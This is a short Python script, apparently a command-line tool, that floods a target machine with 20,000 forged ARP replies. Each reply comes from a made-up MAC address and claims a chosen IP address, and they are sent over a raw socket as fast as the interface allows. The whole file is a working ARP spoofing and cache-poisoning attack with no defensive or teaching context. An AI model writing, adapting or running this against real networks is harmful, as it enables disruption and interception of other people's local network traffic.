"""Claims an address by ARP from 20,000 made-up hosts.   flood_claims.py INTERFACE TARGET_MAC ADDRESS"""

import socket
import struct
import sys

CLAIMS = 20_000


def main():
    """Sends them as fast as the interface takes them."""
    interface, target, address = sys.argv[1:4]
    target = bytes.fromhex(target.replace(":", ""))
    octets = socket.inet_aton(address)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        for number in range(CLAIMS):
            mac = b"\x02\x77" + struct.pack("!I", number)
            wire.send(target + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + mac + octets + target + octets)


if __name__ == "__main__":
    main()
